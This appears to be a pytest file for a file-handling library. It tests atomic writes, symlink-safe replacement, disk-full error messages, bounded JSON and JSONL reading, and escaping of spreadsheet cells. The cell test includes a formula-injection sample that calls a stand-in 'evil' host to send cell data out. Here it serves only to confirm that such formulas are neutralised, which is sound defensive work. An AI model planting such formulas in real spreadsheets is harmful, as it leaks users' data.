"""Files are written whole or not at all, links are not followed, and errors say which file."""

import errno
import json
import os
import subprocess
import sys

import pytest

from steer_env.files import (
    CannotWrite,
    cell,
    read_bytes,
    read_json,
    read_text,
    replacing,
    replacing_folder,
    write_json,
    write_text,
    writing,
)
from steer_env.records import JsonlWriter, keep_rows, read_jsonl


def names(folder):
    return sorted(p.name for p in folder.iterdir())


def test_a_file_is_replaced_whole_and_nothing_else_is_left(tmp_path):
    path = tmp_path / "sub" / "a.json"
    write_json(path, {"a": 1})
    write_json(path, {"a": 2})
    assert read_json(path) == {"a": 2} and names(path.parent) == ["a.json"]


def test_two_writers_of_one_file_do_not_take_each_others(tmp_path):
    path = tmp_path / "p.png"
    with replacing(path) as one:
        one.write_bytes(b"one")
        with replacing(path) as two:
            assert one != two
            two.write_bytes(b"two")
    assert path.read_bytes() == b"one" and list(tmp_path.iterdir()) == [path]


def test_an_error_while_writing_keeps_the_old_file(tmp_path):
    path = tmp_path / "a.txt"
    write_text(path, "old")
    with pytest.raises(ZeroDivisionError), replacing(path) as part:
        part.write_text("half")
        raise ZeroDivisionError
    assert path.read_text() == "old" and names(tmp_path) == ["a.txt"]


def test_a_link_in_place_of_a_file_is_replaced_and_its_target_untouched(tmp_path):
    victim, link = tmp_path / "victim", tmp_path / "report.md"
    victim.write_text("precious")
    link.symlink_to(victim)
    write_text(link, "report")
    assert victim.read_text() == "precious" and link.read_text() == "report" and not link.is_symlink()


def test_lines_are_not_appended_through_a_link(tmp_path):
    victim, link = tmp_path / "victim", tmp_path / "dialogues.jsonl"
    victim.write_text("precious")
    link.symlink_to(victim)
    with pytest.raises(CannotWrite, match=r"dialogues.jsonl cannot be written .*symbolic link"):
        JsonlWriter(link)
    assert victim.read_text() == "precious"


def test_a_folder_is_replaced_whole(tmp_path):
    folder = tmp_path / "model"
    with replacing_folder(folder) as part:
        (part / "a").write_text("1")
    with pytest.raises(ZeroDivisionError), replacing_folder(folder) as part:
        (part / "b").write_text("2")
        raise ZeroDivisionError
    assert names(folder) == ["a"]
    with replacing_folder(folder) as part:
        (part / "c").write_text("3")
    assert names(folder) == ["c"] and names(tmp_path) == ["model"]


def test_a_linked_folder_is_replaced_and_its_target_untouched(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious").write_text("")
    (tmp_path / "model").symlink_to(victim)
    with replacing_folder(tmp_path / "model") as part:
        (part / "a").write_text("1")
    assert names(victim) == ["precious"] and names(tmp_path / "model") == ["a"]


LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
from pathlib import Path
from steer_env.files import CannotWrite, write_bytes
from steer_env.records import JsonlWriter
folder = Path(sys.argv[1])
try:
    write_bytes(folder / "big", b"x" * 10_000)
except CannotWrite as error:
    print(error)
writer = JsonlWriter(folder / "rows.jsonl")
try:
    for n in range(1000):
        writer.write({"n": n, "text": "x" * 100})
except CannotWrite as error:
    print(error)
try:
    writer.write({"n": -1})
except ValueError as error:
    print(error)
"""


def test_a_full_disk_is_one_line_with_the_path_and_whole_rows_stay(tmp_path):
    done = subprocess.run(
        [sys.executable, "-c", LIMITED, str(tmp_path)], capture_output=True, text=True, check=True
    )
    big, rows, closed = done.stdout.splitlines()
    assert big.startswith(f"{tmp_path}/big cannot be written (File too large); ") and "--resume" in big
    assert rows.startswith(f"{tmp_path}/rows.jsonl cannot be written (File too large); ")
    assert "is closed" in closed  # nothing is appended to a torn line
    assert names(tmp_path) == ["rows.jsonl"]
    kept = list(read_jsonl(tmp_path / "rows.jsonl"))
    assert len(kept) > 10 and [row["n"] for row in kept] == list(range(len(kept)))
    with JsonlWriter(tmp_path / "rows.jsonl") as writer:
        writer.write({"n": len(kept)})
    assert [row["n"] for row in read_jsonl(tmp_path / "rows.jsonl")] == list(range(len(kept) + 1))


@pytest.mark.parametrize(
    "text",
    [
        "Error while serializing: I/O error: No space left on device (os error 28)",
        "[enforce fail at inline_container.cc:672] . unexpected pos 64 vs 0",
    ],
)
def test_errors_of_other_libraries_get_the_path(tmp_path, text):
    with pytest.raises(CannotWrite, match=f"^{tmp_path}/a cannot be written"), writing(tmp_path / "a"):
        raise RuntimeError(text)
    with pytest.raises(RuntimeError, match="a bug"), writing(tmp_path / "a"):
        raise RuntimeError("a bug")


def test_an_error_of_the_system_keeps_its_number(tmp_path):
    with pytest.raises(CannotWrite) as caught, writing(tmp_path / "a"):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    assert caught.value.errno == errno.ENOSPC and "free space" in str(caught.value)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"{", "no JSON"),
        (b"[1]", "expected a JSON object"),
        (b"[" * 100_000, "no JSON"),
        (b"\xff\xfe{", "not UTF-8"),
    ],
)
def test_a_file_that_is_no_json_object_is_named(tmp_path, content, message):
    path = tmp_path / "run.json"
    path.write_bytes(content)
    with pytest.raises(ValueError, match=message) as caught:
        read_json(path)
    assert str(path) in str(caught.value)


def test_reading_has_a_limit_and_takes_ordinary_files_only(tmp_path):
    sparse = tmp_path / "sparse"
    with sparse.open("wb") as file:
        file.truncate(1 << 40)
    with pytest.raises(ValueError, match="larger than 1 MiB"):
        read_bytes(sparse, 1 << 20)
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(ValueError, match="no ordinary file"):
        read_text(tmp_path / "pipe")


def test_rows_too_deep_or_no_objects_are_named_by_line(tmp_path):
    path = tmp_path / "rows.jsonl"
    for line, message in (("[" * 100_000, ":2 is not JSON"), ("[1]", ":2 holds a list")):
        path.write_text('{"a": 1}\n' + line + "\n")
        with pytest.raises(ValueError, match=message):
            list(read_jsonl(path))


def test_a_last_line_without_line_end_counts_only_in_files_made_by_hand(tmp_path):
    path = tmp_path / "rows.jsonl"
    path.write_text('{"a": 1}\n{"a": 2}')
    assert len(list(read_jsonl(path))) == 1
    assert len(list(read_jsonl(path, finished=True))) == 2
    path.write_text('{"a": 1}\n{"a": ')
    with pytest.raises(ValueError, match=":2 is not JSON"):
        list(read_jsonl(path, finished=True))


def test_rows_are_cut_at_the_first_that_is_not_wanted(tmp_path):
    path = tmp_path / "rows.jsonl"
    lines = [json.dumps({"n": n}) + "\n" for n in (0, 1, 5, 2)]
    path.write_text("".join(lines))
    assert keep_rows(path, lambda row: row["n"] < 4) == 2
    assert path.read_text() == "".join(lines[:2])
    path.write_text(lines[0] + '{"n": ')
    assert keep_rows(path, lambda row: True) == 1 and path.read_text() == lines[0]
    assert keep_rows(tmp_path / "none", lambda row: True) == 0


def test_cells_are_no_formulas():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", '=HYPERLINK("http://evil/?"&A1,"ok")'):
        assert cell(text) == "'" + text
    for value in ("1 + 1", "", 3, -3.5, None):
        assert cell(value) == value
